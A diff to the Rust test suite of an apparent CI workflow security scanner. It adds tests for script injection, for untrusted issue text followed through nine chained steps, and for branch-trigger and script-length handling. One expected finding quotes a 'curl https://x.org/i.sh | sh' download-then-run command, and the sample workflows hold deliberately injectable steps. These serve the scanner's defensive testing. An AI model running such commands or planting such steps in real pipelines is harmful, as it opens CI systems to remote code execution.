@@ -508,7 +508,7 @@ fn hostile_files_are_answered_with_problems() {
         (deep.as_str(), true),
         ("a: [b", true),
         ("jobs: {j: 3}", true),
-        (long.as_str(), false),
+        (long.as_str(), true),
     ] {
         let definition = read(&".github/workflows/w.yml".into(), text.as_bytes()).unwrap();
         assert_eq!(!definition.workflow.problems.is_empty(), problems, "{:.40}", text);
@@ -567,4 +567,54 @@ release:
             .gitlab-ci.yml:11 DownloadThenRun Constant High curl https://x.org/i.sh | sh
         "#]],
     );
+}
+
+#[test]
+fn a_branch_that_the_triggers_list_by_name_carries_nothing() {
+    for (on, context, found) in [
+        ("{pull_request: {branches: [main, minor]}}", "github.base_ref", false),
+        ("{pull_request: {branches: [main, 'release/*']}}", "github.base_ref", true),
+        ("{pull_request: {branches-ignore: [main]}}", "github.base_ref", true),
+        ("pull_request", "github.base_ref", true),
+        ("{pull_request: {branches: [main]}, push: {branches: [main]}}", "github.base_ref", false),
+        ("{push: {branches: [main]}}", "github.ref_name", false),
+        ("{push: {branches: [main], tags: ['v*']}}", "github.ref_name", true),
+        ("{push: {branches: [main]}, workflow_dispatch: {}}", "github.ref_name", true),
+        ("{pull_request: {branches: [main]}, workflow_call: {}}", "github.base_ref", true),
+        ("{pull_request: {branches: [main]}}", "github.head_ref", true),
+    ] {
+        let text = findings(&workflow(on, &format!("- run: echo ${{{{ {context} }}}}")), INJECTION);
+        assert_eq!(!text.is_empty(), found, "{on} {context}: {text}");
+    }
+}
+
+#[test]
+fn foreign_text_is_followed_over_more_steps_than_a_hand_has_fingers() {
+    let mut steps = String::from("- id: s0\n  run: echo v=${{ github.event.issue.title }} >> $GITHUB_OUTPUT\n");
+    for at in 1..9 {
+        let before = at - 1;
+        steps.push_str(&format!("- id: s{at}\n  run: echo v=${{{{ steps.s{before}.outputs.v }}}} >> $GITHUB_OUTPUT\n"));
+    }
+    let text = findings(&workflow("issues", steps.trim_end()), INJECTION);
+    assert_eq!(text.lines().count(), 9, "{text}");
+}
+
+#[test]
+fn a_script_that_is_cut_is_a_problem_of_its_workflow() {
+    let long = "a;".repeat(20_001);
+    let many = "echo ${{ x }};".repeat(5_001);
+    for (script, problems) in [(long.as_str(), 1), (many.as_str(), 1), ("echo a", 0)] {
+        let text = format!("on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - run: {script}\n");
+        let definition = read(&".github/workflows/w.yml".into(), text.as_bytes()).unwrap();
+        assert_eq!(definition.workflow.problems.len(), problems, "{:?}", definition.workflow.problems);
+    }
+}
+
+#[test]
+fn a_job_of_an_include_may_stand_without_its_script() {
+    for (head, problems) in [("include:\n  - component: x.example.org/a/b@1\n", 0), ("", 1)] {
+        let text = format!("{head}build:\n  tags: [x]\n");
+        let definition = read(&".gitlab-ci.yml".into(), text.as_bytes()).unwrap();
+        assert_eq!(definition.workflow.problems.len(), problems, "{head}");
+    }
 }
